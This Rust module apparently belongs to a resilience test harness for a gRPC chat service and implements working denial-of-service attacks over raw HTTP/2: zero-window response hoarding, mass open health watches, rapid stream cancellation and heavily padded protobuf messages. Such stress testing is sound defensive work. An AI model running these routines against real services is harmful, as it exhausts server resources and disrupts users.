//! Attacks by gRPC calls over bare HTTP/2, so that the attacker controls windows, padding and
//! resets.

use std::error::Error;
use std::sync::Arc;
use std::time::Duration;

use bytes::{BufMut as _, Bytes, BytesMut};
use gimlet_proto::pb;
use h2::client::{Builder, ResponseFuture, SendRequest};
use http::Request;
use prost::Message as _;
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{interval, sleep, timeout};

use super::tally::AttackTally;
use super::target::AttackerAccounts;
use super::wire::PATIENCE;
use crate::test_account::TestAccount;

/// Answers that are requested and never read.
pub(super) const HOARDED: usize = 256;
/// Groups of the account that requests its list of groups.
const GROUPS: usize = 200;
/// Health watches that stay open.
pub(super) const WATCHES: usize = 500;
/// Calls in each burst that are cancelled at once.
pub(super) const CANCELLED: usize = 20;
/// Bytes of padding around a room message of one byte.
const PADDING: usize = 250_000;

type AttackError = Box<dyn Error + Send + Sync>;

/// Bare HTTP/2 connection. Dropping it ends the task that drives it.
struct RawGrpcConnection {
    send: SendRequest<Bytes>,
    authority: String,
    _driver: JoinSet<()>,
}

impl RawGrpcConnection {
    async fn connect(squad: &AttackerAccounts, window: u32) -> Result<Self, AttackError> {
        let authority = squad.field.grpc.trim_start_matches("http://").to_owned();
        let stream = timeout(PATIENCE, TcpStream::connect(&authority)).await??;
        let mut builder = Builder::new();
        builder.initial_window_size(window);
        let (send, connection) = builder.handshake(stream).await?;
        let mut driver = JoinSet::new();
        driver.spawn(async move {
            // The next call sees the end of the connection.
            let _ = connection.await;
        });
        Ok(Self {
            send,
            authority,
            _driver: driver,
        })
    }

    async fn call(
        &mut self,
        path: &str,
        who: Option<&TestAccount>,
        message: Vec<u8>,
    ) -> Result<ResponseFuture, AttackError> {
        let mut request = Request::builder()
            .method("POST")
            .uri(format!("http://{}{path}", self.authority))
            .header("content-type", "application/grpc")
            .header("te", "trailers");
        if let Some(who) = who {
            request = request
                .header("user_id", who.user)
                .header("device_id", who.device)
                .header("token", &who.token);
        }
        let mut body = BytesMut::with_capacity(message.len() + 5);
        body.put_u8(0);
        body.put_u32(u32::try_from(message.len())?);
        body.extend_from_slice(&message);
        let mut ready = timeout(PATIENCE, self.send.clone().ready()).await??;
        let (answer, mut stream) = ready.send_request(request.body(())?, false)?;
        stream.send_data(body.freeze(), true)?;
        Ok(answer)
    }
}

/// Repeats an attack over one connection.
async fn again<F: Future<Output = Result<(), AttackError>>>(
    tally: &AttackTally,
    mut attack: impl FnMut() -> F,
) {
    loop {
        if let Err(why) = attack().await {
            tally.refused(&why);
        }
        sleep(Duration::from_millis(200)).await;
    }
}

/// Requests large answers with a flow-control window of 0, and holds them unread.
pub(super) async fn hoard(squad: AttackerAccounts, tally: Arc<AttackTally>) {
    let account = squad.spare(5);
    let api = squad.as_account(&account);
    for n in 0..GROUPS {
        tally.counts(
            api.create_group(&format!("{n} {}", "g".repeat(40)), &[])
                .await,
        );
    }
    again(&tally, || async {
        let mut calls = RawGrpcConnection::connect(&squad, 0).await?;
        let mut held = Vec::new();
        for _ in 0..HOARDED {
            tally.tries();
            let call = calls.call("/pb.LogicExt/GetGroups", Some(&account), Vec::new());
            held.push(call.await?);
        }
        sleep(Duration::from_secs(30)).await;
        Ok(())
    })
    .await;
}

/// Holds many health watches open.
pub(super) async fn watches(squad: AttackerAccounts, tally: Arc<AttackTally>) {
    again(&tally, || async {
        let mut calls = RawGrpcConnection::connect(&squad, 65_535).await?;
        let mut held = Vec::new();
        for _ in 0..WATCHES {
            tally.tries();
            let call = calls.call("/grpc.health.v1.Health/Watch", None, Vec::new());
            held.push(call.await?);
        }
        sleep(Duration::from_secs(30)).await;
        Ok(())
    })
    .await;
}

/// Cancels calls as soon as they are made.
pub(super) async fn cancels(squad: AttackerAccounts, tally: Arc<AttackTally>) {
    let account = squad.spare(6);
    again(&tally, || async {
        let mut calls = RawGrpcConnection::connect(&squad, 65_535).await?;
        let mut tick = interval(Duration::from_millis(200));
        loop {
            tick.tick().await;
            for _ in 0..CANCELLED {
                tally.tries();
                let call = calls.call("/pb.LogicExt/GetGroups", Some(&account), Vec::new());
                drop(call.await?);
            }
        }
    })
    .await;
}

/// Publishes room messages of one byte in requests that are mostly padding, an unknown field.
pub(super) async fn padded(squad: AttackerAccounts, tally: Arc<AttackTally>) {
    let account = squad.spare(7);
    let mut message = pb::PushRoomReq {
        room_id: 8_000_000,
        message_type: 1,
        message_content: Bytes::from_static(b"p"),
        is_persist: true,
        ..pb::PushRoomReq::default()
    }
    .encode_to_vec();
    prost::encoding::encode_key(
        1_000,
        prost::encoding::WireType::LengthDelimited,
        &mut message,
    );
    prost::encoding::encode_varint(PADDING as u64, &mut message);
    message.resize(message.len() + PADDING, 0);
    again(&tally, || async {
        let mut calls = RawGrpcConnection::connect(&squad, 65_535).await?;
        let mut tick = interval(Duration::from_millis(50));
        loop {
            tick.tick().await;
            tally.tries();
            let call = calls.call("/pb.LogicExt/PushRoom", Some(&account), message.clone());
            timeout(PATIENCE, call.await?).await??;
        }
    })
    .await;
}
